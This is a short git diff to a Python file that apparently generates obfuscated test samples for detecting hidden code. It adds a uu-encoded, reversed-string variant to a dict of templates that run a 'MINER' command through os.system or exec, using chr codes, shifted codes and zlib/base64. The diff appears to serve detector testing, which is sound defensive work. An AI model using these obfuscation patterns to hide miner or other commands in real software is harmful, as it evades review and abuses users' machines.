@@ -8,6 +8,7 @@ it hides.
 """
 
 import base64
+import binascii
 import codecs
 import lzma
 import time
@@ -93,6 +94,8 @@ NESTED = {
                                             f"os.system(''.join(chr(int(n)) for n in '{','.join(map(str, codes(MINER)))}'.split(',')))",
     "shifted codes through a lambda": "import os\n"
                                       f"os.system(''.join(map(lambda c: chr(c - 3), {[c + 3 for c in codes(MINER)]})))",
+    "uu of a reversed line": "import binascii, os\n"
+                             f"os.system(binascii.a2b_uu({binascii.b2a_uu(MINER.encode()).decode()[::-1]!r}[::-1]).decode())",
     "exec of zlib of base64": "import base64, zlib\n"
                               f"exec(zlib.decompress(base64.b64decode('{zipped64(f'import os; os.system({MINER!r})')}')))",
 }
